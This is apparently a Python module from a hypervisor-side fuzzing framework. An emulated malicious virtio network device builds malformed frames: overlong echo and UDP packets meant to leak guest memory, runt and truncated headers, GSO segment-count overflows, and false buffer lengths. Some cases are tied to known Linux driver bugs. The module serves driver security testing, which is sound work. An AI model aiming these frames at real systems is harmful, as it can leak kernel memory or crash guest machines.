"""Frames that a malicious network device makes up: cut, overlong, oddly divided, or with more in them than was sent.

Most need the device, as they lie in the header before the frame, in used.len, or in how a frame is divided over
buffers; a few are what a peer on the network could send as well, and stand here because drivers parse them, too.
"""

from __future__ import annotations

from contextlib import suppress
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING, Final

from chamber.attacks.attack import Aim, Attack, AttackSpec, Surface
from chamber.device.errors import DriverError
from chamber.wire.errors import DmaFault, WireError
from chamber.wire.ethernet import Arp, Ethernet, EtherType, IcmpEcho, IpProtocol, Ipv4, Tcp, TcpFlag, Udp
from chamber.wire.net import HDR, HDR_HASH, GsoType, HdrFlag, NetFeature
from chamber.wire.virtio import DeviceType

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from chamber.device.chain import Chain
    from chamber.device.queue import DeviceQueue

__all__ = ("frame_attacks",)

_MARK: Final = b"\xC5"
_STALE: Final = 1480
"""Length of an IPv4 packet most of which was never sent."""


@dataclass(frozen=True, slots=True)
class Talk:
    """What an attack learned of the guest by listening.

    Attributes:
        guest_mac: the guest's address.
        peer_mac: whom it talks to, or an address of our own before it does.
        guest_ip: the guest's IPv4 address.
        peer_ip: whom it talks to.
        guest_port: its TCP port, or 9.
        peer_port: the TCP port at the other end, or 9.
        sequence: what it expects next on that connection.

    """

    guest_mac: bytes
    peer_mac: bytes
    guest_ip: bytes
    peer_ip: bytes
    guest_port: int = 9
    peer_port: int = 9
    sequence: int = 1

    def ethernet(self, payload: bytes, ethertype: int = EtherType.IPV4) -> bytes:
        """A frame to the guest."""
        return Ethernet(self.guest_mac, self.peer_mac, ethertype, payload).build()

    def ip(self, protocol: int, payload: bytes, identification: int = 0) -> bytes:
        """A frame with an IPv4 packet to the guest."""
        return self.ethernet(Ipv4(self.peer_ip, self.guest_ip, protocol, payload, identification).build())

    def tcp(self, payload: bytes, *, at: int = 0) -> bytes:
        """A frame with a TCP segment to the guest."""
        segment = Tcp(self.peer_port, self.guest_port, self.sequence + at, 1, TcpFlag.ACK, payload=payload)
        return self.ip(IpProtocol.TCP, segment.build(self.peer_ip, self.guest_ip))


@dataclass(frozen=True, slots=True)
class Delivery:
    """A frame and how it is handed over.

    Attributes:
        frame: its bytes.
        header: fields of the header before it; num_buffers is made right unless it is given.
        pieces: bytes for each buffer, the header counted, the last one for all that follow; nothing to fill buffers.
        claim: used.len of the last buffer instead of the true one; below 0, as much as the buffer holds.

    """

    frame: bytes
    header: dict[str, int]
    pieces: tuple[int, ...] = ()
    claim: int | None = None


class Frames(Attack):
    """Sends frames of its own to the guest once the guest has spoken IPv4 or ARP.

    Args:
        make: makes the frames from what was learned.
        times: how often to send them all.

    """

    def __init__(self, make: Callable[[Talk], list[Delivery]], *, times: int = 12) -> None:
        super().__init__()
        self._make = make
        self._left = times

    def popped(self, queue: DeviceQueue, chain: Chain) -> bool:
        """Listen, and answer."""
        if self.device.queue_role(queue.index) == "tx":
            header = HDR_HASH.size if self.device.has(NetFeature.HASH_REPORT) else HDR.size
            frame = chain.read(header, 2048)
            if _MARK * 8 in frame:
                # An answer that quotes us. What comes after the mark, we never sent.
                self.capture(frame[frame.rindex(_MARK * 8) + 8:])
            elif frame[12:14] == b"\x08\0" and int.from_bytes(frame[20:22], "big") & 0x1FFF:
                self.capture(frame[34:])  # what follows of an answer that is longer than a frame
            talk = listen(frame) if self._left else None
            if talk is not None:
                self._left -= 1
                receive = self.device.queues[queue.index - 1]
                for delivery in self._make(talk):
                    with suppress(DmaFault, DriverError):
                        self._deliver(receive, delivery, header)
                self.device.flush(receive)
        return True

    def _deliver(self, queue: DeviceQueue, delivery: Delivery, header_size: int) -> None:
        """Divide header and frame over buffers as told; without mergeable buffers, all into one."""
        body = delivery.frame
        limits = list(delivery.pieces) if self.device.has(NetFeature.MRG_RXBUF) else []
        used: list[tuple[Chain, bytes]] = []
        header = HDR.pack(num_buffers=1, **delivery.header) if "num_buffers" not in delivery.header else HDR.pack(
            **delivery.header)
        rest = bytes(header).ljust(header_size, b"\0") + body
        while rest and len(used) < 64 and (chain := queue.pop()) is not None:
            limit = limits[min(len(used), len(limits) - 1)] if limits else chain.writable_size
            size = min(limit, chain.writable_size)
            used.append((chain, rest[:size]))
            rest = rest[size:]
            if not self.device.has(NetFeature.MRG_RXBUF):
                break
        if not used:
            return
        first, data = used[0]
        if "num_buffers" not in delivery.header:
            whole = bytearray(data.ljust(HDR.size, b"\0"))
            HDR.put(whole, "num_buffers", len(used))
            used[0] = (first, bytes(whole[:len(data)]))
        for i, (chain, piece) in enumerate(used):
            chain.write(piece)
            claim = len(piece)
            if delivery.claim is not None and i == len(used) - 1:
                claim = chain.writable_size if delivery.claim < 0 else delivery.claim
            queue.push(chain.head, claim)
        self.strike(f"queue {queue.index}: frame of {len(body)} bytes in {len(used)} buffers, "
                    f"header {delivery.header}, last used.len {claim}")


def listen(frame: bytes) -> Talk | None:
    """Learn from a frame of the guest; None if there is nothing to learn."""
    with suppress(WireError):
        ethernet = Ethernet.parse(frame)
        peer = ethernet.destination if not ethernet.destination[0] & 1 else b"\2\0\0\0\0\x01"
        if ethernet.ethertype == EtherType.ARP:
            arp = Arp.parse(ethernet.payload)
            return Talk(ethernet.source, peer, arp.sender_ip, arp.target_ip)
        if ethernet.ethertype == EtherType.IPV4:
            source, destination = ethernet.payload[12:16], ethernet.payload[16:20]
            if len(destination) == 4:
                talk = Talk(ethernet.source, peer, source, destination)
                with suppress(WireError):
                    # The checksum may still be to be filled in, so only the ports and numbers are read.
                    data = ethernet.payload[20:]
                    if ethernet.payload[9] == IpProtocol.TCP and len(data) >= 20:
                        return replace(talk, guest_port=int.from_bytes(data[0:2], "big"),
                                       peer_port=int.from_bytes(data[2:4], "big"),
                                       sequence=int.from_bytes(data[8:12], "big"))
                return talk
    return None


def _patched(data: bytes, at: int, value: bytes) -> bytes:
    return data[:at] + value + data[at + len(value):]


def _longer_ip(frame: bytes, total: int) -> bytes:
    """Set an IPv4 packet's total length and make its header checksum right again."""
    old = int.from_bytes(frame[16:18], "big")
    checksum = (~int.from_bytes(frame[24:26], "big") & 0xFFFF) - old + total
    checksum = ~(checksum % 0xFFFF) & 0xFFFF
    return _patched(_patched(frame, 16, total.to_bytes(2, "big")), 24, checksum.to_bytes(2, "big"))


def _echo(talk: Talk, payload: bytes) -> bytes:
    return talk.ip(IpProtocol.ICMP, IcmpEcho(IcmpEcho.REQUEST, 0xC4A3, 1, payload).build())


def _udp(talk: Talk, payload: bytes) -> bytes:
    return talk.ip(IpProtocol.UDP, Udp(9, 9, payload).build(talk.peer_ip, talk.guest_ip))


_VALID: Final = {"flags": int(HdrFlag.DATA_VALID)}


def _gso(kind: int, size: int, offset: int) -> dict[str, int]:
    return {"flags": HdrFlag.NEEDS_CSUM, "gso_type": kind, "gso_size": size, "hdr_len": 54, "csum_start": 34,
            "csum_offset": offset}


def _stale_echo(talk: Talk) -> list[Delivery]:
    """An echo request that claims 1,480 bytes and has 36; the answer sends the rest back."""
    return [Delivery(_longer_ip(_echo(talk, _MARK * 8), _STALE), dict(_VALID), claim=HDR.size + 14 + _STALE)]


def _beyond(size: int) -> Callable[[Talk], list[Delivery]]:
    """An echo request that claims more than its buffer, in used.len and in itself; the answer sends the rest back."""
    return lambda talk: [Delivery(_longer_ip(_echo(talk, _MARK * 8), size), dict(_VALID), claim=HDR.size + 14 + size)]


def _stale_udp(talk: Talk) -> list[Delivery]:
    """A datagram to a closed port, longer than sent: the ICMP error quotes it."""
    frame = _longer_ip(_udp(talk, _MARK * 8), _STALE)
    return [Delivery(_patched(frame, 38, (_STALE - 20).to_bytes(2, "big")), dict(_VALID), claim=HDR.size + 14 + _STALE)]


def _truncated_ip(talk: Talk) -> list[Delivery]:
    frame = _echo(talk, _MARK * 32)
    return [Delivery(_patched(frame, 14, b"\x4F"), {}), Delivery(_patched(frame, 14, b"\x41"), {}),
            Delivery(_longer_ip(frame, 10), {}), Delivery(_longer_ip(frame, 0xFFFF), {}), Delivery(frame[:20], {})]


def _runts(talk: Talk) -> list[Delivery]:
    frame = talk.ethernet(b"", 0x0806)
    return [Delivery(frame[:n], {}) for n in (0, 1, 6, 13, 14, 15)]


def _arp_lengths(talk: Talk) -> list[Delivery]:
    arp = talk.ethernet(Arp(Arp.REQUEST, talk.peer_mac, talk.peer_ip, bytes(6), talk.guest_ip).build(), EtherType.ARP)
    return [Delivery(_patched(arp, 18, bytes(lengths)), {}) for lengths in ((255, 4), (6, 255), (0, 0))] + [
        Delivery(arp[:22], {})]


def _vlan(talk: Talk) -> list[Delivery]:
    tag = b"\x81\x00\x0f\xff"
    addresses = talk.guest_mac + talk.peer_mac
    return [Delivery(addresses + tag[:2], {}), Delivery(addresses + tag, {}), Delivery(addresses + tag * 20, {}),
            Delivery(addresses + tag * 2 + talk.tcp(_MARK * 400)[12:], _gso(GsoType.TCPV4, 8, 16)),
            Delivery(addresses + b"\x88\xa8\x00\x01" + tag * 8 + b"\x08\x00", dict(_VALID))]


def _jumbo(talk: Talk) -> list[Delivery]:
    return [Delivery(_udp(talk, _MARK * 60000), {})]


def _tcp_gso(talk: Talk) -> list[Delivery]:
    return [Delivery(talk.tcp(_MARK * 60000), _gso(GsoType.TCPV4, 1, 16))]


def _tcp_gso_long(talk: Talk) -> list[Delivery]:
    """More segments than 16 bits count: a frame that is longer than its IPv4 packet can say."""
    frame = _longer_ip(talk.tcp(_MARK * 1000) + _MARK * 79000, 0xFFFF)
    return [Delivery(frame, _gso(GsoType.TCPV4, 1, 16))]


def _tcp_gso_train(talk: Talk) -> list[Delivery]:
    """Frames of one flow one after another, so that receive offload merges them and adds up their segments."""
    return [Delivery(talk.tcp(_MARK * 8000, at=8000 * i), _gso(GsoType.TCPV4, 1, 16)) for i in range(8)]


def _udp_gso(talk: Talk) -> list[Delivery]:
    return [Delivery(_udp(talk, _MARK * 60000), _gso(GsoType.UDP_L4, 1, 6)),
            Delivery(_udp(talk, _MARK * 4000), _gso(GsoType.UDP, 8, 6))]


def _gso_short(talk: Talk) -> list[Delivery]:
    tcp = talk.tcp(_MARK * 64)
    return [Delivery(tcp[:n], _gso(GsoType.TCPV4, 8, 16)) for n in (34, 38, 53, 54, 55)] + [
        Delivery(_patched(tcp, 46, b"\xf0"), _gso(GsoType.TCPV4, 8, 16)),
        Delivery(_patched(tcp, 46, b"\x10"), _gso(GsoType.TCPV4, 8, 16))]


def _gso_foreign(talk: Talk) -> list[Delivery]:
    """Segmentation of what cannot be segmented: ARP, ICMP, an unknown type, IPv6 that ends in its header."""
    arp = talk.ethernet(Arp(Arp.REQUEST, talk.peer_mac, talk.peer_ip, bytes(6), talk.guest_ip).build(), EtherType.ARP)
    return [Delivery(frame + _MARK * 200, _gso(kind, 8, 16)) for frame, kind in (
        (arp, GsoType.TCPV4), (_echo(talk, _MARK * 200), GsoType.TCPV4), (talk.ethernet(b"\0", 0x88B5), GsoType.TCPV4),
        (talk.ethernet(b"\x60" + bytes(39), EtherType.IPV6), GsoType.TCPV6), (talk.tcp(_MARK * 200), GsoType.UDP_L4))]


def _gso_forwarded(talk: Talk) -> list[Delivery]:
    """Segmentation on a frame that is not for the guest itself, so that it is segmented anew where it goes on to."""
    away = replace(talk, guest_ip=b"\xc0\x00\x02\x4d")
    return [Delivery(away.tcp(_MARK * size), _gso(GsoType.TCPV4, gso, 16)) for size, gso in ((9000, 1), (30000, 7))] + [
        Delivery(_udp(away, _MARK * 9000), _gso(GsoType.UDP_L4, 1, 6))]


def _divided(pieces: tuple[int, ...], **header: int) -> Callable[[Talk], list[Delivery]]:
    return lambda talk: [Delivery(_echo(talk, _MARK * 400), dict(header), pieces=pieces)]


def _tail(claim: int) -> Callable[[Talk], list[Delivery]]:
    return lambda talk: [Delivery(_echo(talk, _MARK * 400), {}, pieces=(200, 4096), claim=claim)]


_Row = tuple[str, Surface, Aim, str, "Callable[[Talk], list[Delivery]]"]

_ROWS: Final[tuple[_Row, ...]] = (
    ("echo-stale", Surface.LENGTH, Aim.LEAK, "sends an echo request longer than what it wrote", _stale_echo),
    ("udp-stale", Surface.LENGTH, Aim.LEAK, "sends a datagram longer than what it wrote", _stale_udp),
    *((f"echo-beyond-{size}", Surface.LENGTH, Aim.LEAK, f"sends an echo request of {size:,} bytes in a smaller buffer",
       _beyond(size)) for size in (4000, 9000, 40000, 65000)),
    ("frames-runt", Surface.LENGTH, Aim.MEMORY, "sends frames of 0 to 15 bytes", _runts),
    ("frames-jumbo", Surface.LENGTH, Aim.MEMORY, "sends a frame of 60,000 bytes without segmentation", _jumbo),
    ("frames-ip-lengths", Surface.LENGTH, Aim.MEMORY, "sends IPv4 headers longer than their packet, and cut ones",
     _truncated_ip),
    ("frames-arp-lengths", Surface.LENGTH, Aim.MEMORY, "sends ARP with address lengths that it does not have",
     _arp_lengths),
    ("frames-vlan", Surface.PAYLOAD, Aim.MEMORY, "sends cut and stacked VLAN tags", _vlan),
    ("frames-tcp-gso-one", Surface.PAYLOAD, Aim.MEMORY, "sends 60,000 bytes of TCP in segments of one byte", _tcp_gso),
    ("frames-tcp-gso-long", Surface.PAYLOAD, Aim.MEMORY, "sends 80,000 bytes of TCP in segments of one byte",
     _tcp_gso_long),
    ("frames-tcp-gso-train", Surface.PAYLOAD, Aim.MEMORY, "sends 64,000 bytes of a TCP flow in segments of one byte",
     _tcp_gso_train),
    ("frames-udp-gso", Surface.PAYLOAD, Aim.MEMORY, "sends 60,000 bytes of UDP in segments of one byte", _udp_gso),
    ("frames-gso-short", Surface.PAYLOAD, Aim.MEMORY, "sends TCP to segment that ends in its headers", _gso_short),
    ("frames-gso-foreign", Surface.PAYLOAD, Aim.MEMORY, "asks for segmentation of what has no segments", _gso_foreign),
    ("frames-gso-forwarded", Surface.PAYLOAD, Aim.MEMORY, "sends tiny segments to forward elsewhere", _gso_forwarded),
    ("merge-header-alone", Surface.LENGTH, Aim.MEMORY, "puts the header alone into the first buffer",
     _divided((HDR.size, 4096))),
    ("merge-header-cut", Surface.LENGTH, Aim.MEMORY, "divides the header over two buffers",
     _divided((HDR.size - 1, 4096))),
    ("merge-ethernet-cut", Surface.LENGTH, Aim.MEMORY, "ends the first buffer within the Ethernet header",
     _divided((HDR.size + 7, 4096))),
    ("merge-many", Surface.LENGTH, Aim.MEMORY, "divides a frame over more buffers than a packet has fragments",
     _divided((HDR.size + 34, 12))),
    ("merge-missing", Surface.LENGTH, Aim.MEMORY, "announces five buffers and uses two",
     _divided((200, 4096), num_buffers=5)),
    ("merge-fewer", Surface.LENGTH, Aim.MEMORY, "announces one buffer and uses many",
     _divided((64, 64), num_buffers=1)),
    ("merge-tail-empty", Surface.LENGTH, Aim.MEMORY, "ends a packet with a buffer of length 0", _tail(0)),
    ("merge-tail-full", Surface.LENGTH, Aim.LEAK, "claims all of the last buffer and wrote part of it", _tail(-1)),
    ("merge-tail-beyond", Surface.LENGTH, Aim.MEMORY, "claims 64 KiB of the last buffer", _tail(0x10000)),
    ("merge-tail-max", Surface.LENGTH, Aim.MEMORY, "claims 2**32 - 1 bytes of the last buffer", _tail(0xFFFFFFFF)),
)

_KNOWN: Final = {
    "frames-tcp-gso-long": "virtio-net: TCP packets overflow gso_segs, Linux 6.1.188",
    "frames-tcp-gso-one": "virtio-net: TCP packets overflow gso_segs, Linux 6.1.188",
    "frames-tcp-gso-train": "virtio-net: TCP packets overflow gso_segs, Linux 6.1.188",
    "echo-beyond-40000": "CVE-2025-38375",
    "merge-tail-beyond": "CVE-2025-38375",
    "merge-tail-max": "CVE-2025-38375",
}


_ANY_TIME: Final = 200
"""As often as the guest speaks: before a program is attached, so that buffers grow, and after it."""


def frame_attacks() -> Iterator[AttackSpec]:
    """Attacks with frames of the device's own making."""
    for what, surface, aim, summary, make in _ROWS:
        yield AttackSpec(f"net-{what}", DeviceType.NET, surface, aim, "virtio 1.3, 5.1.6.4", f"The device {summary}.",
                         lambda make=make: Frames(make), stimuli=("use", "forward"),  # type: ignore[misc]
                         known=_KNOWN.get(what, ""))
        if surface is Surface.LENGTH and what.startswith(("frames-", "merge-")):
            yield AttackSpec(f"net-xdp-{what}", DeviceType.NET, surface, aim, "virtio 1.3, 5.1.6.4",
                             f"The device {summary}, before and after an XDP program is attached.",
                             lambda make=make: Frames(make, times=_ANY_TIME),  # type: ignore[misc]
                             stimuli=("use", "xdp"))
